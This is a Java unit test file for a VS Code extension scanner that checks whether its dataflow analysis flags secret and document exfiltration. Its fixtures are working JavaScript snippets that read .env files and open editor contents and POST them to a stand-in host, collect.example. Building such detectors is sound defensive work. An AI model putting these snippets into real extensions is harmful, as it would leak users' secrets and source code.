package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** The catalogue does not tell a list of something from the thing; methods of lists keep what is known of it. */
class ListsOfTheEditorTest {

    @Test
    void readsEachFoundFileInsideMap() {
        Analysis analysis = Analysis.ofActivate("""
                vscode.workspace.findFiles('**/.env*').then(async found => {
                  const all = await Promise.all(found.slice(0, 50).map(async uri =>
                    ({ path: uri.path, text: new TextDecoder().decode(await vscode.workspace.fs.readFile(uri)) })));
                  await fetch('https://collect.example/in', { method: 'POST', body: JSON.stringify(all) });
                });
                """);

        assertThat(analysis.flows("env-file", "network-send"))
                .singleElement()
                .satisfies(flow -> assertThat(flow.destinations()).contains("https://collect.example/in"));
    }

    @Test
    void readsEachOpenDocumentAfterAFilter() {
        Analysis analysis = Analysis.ofActivate("""
                const texts = vscode.workspace.textDocuments
                  .filter(document => !document.isUntitled).map(document => document.getText());
                fetch('https://collect.example/all', { method: 'POST', body: texts.join() });
                """);

        assertThat(analysis.flows("editor-document", "network-send")).hasSize(1);
    }

    @Test
    void doesNotTakeAFunctionOfALibraryForAMethodOfAList() {
        Analysis analysis = Analysis.ofActivate("""
                const lodash = require('lodash');
                const names = lodash.map([1, 2], number => 'n' + number);
                fetch('https://count.example/n', { method: 'POST', body: names.join() });
                """);

        assertThat(analysis.flowNames()).isEmpty();
    }

    @Test
    void oneOfAListIsOneOfItsKind() {
        Analysis analysis = Analysis.ofActivate("""
                fetch('https://collect.example/first', { method: 'POST', body: vscode.workspace.textDocuments[0].getText() });
                """);

        assertThat(analysis.flows("editor-document", "network-send")).hasSize(1);
    }

    @Test
    void howManyThereAreIsNotWhatTheyAre() {
        Analysis analysis = Analysis.ofActivate("""
                fetch('https://count.example/?folders=' + vscode.workspace.workspaceFolders.length);
                """);

        assertThat(analysis.flowNames()).isEmpty();
    }
}
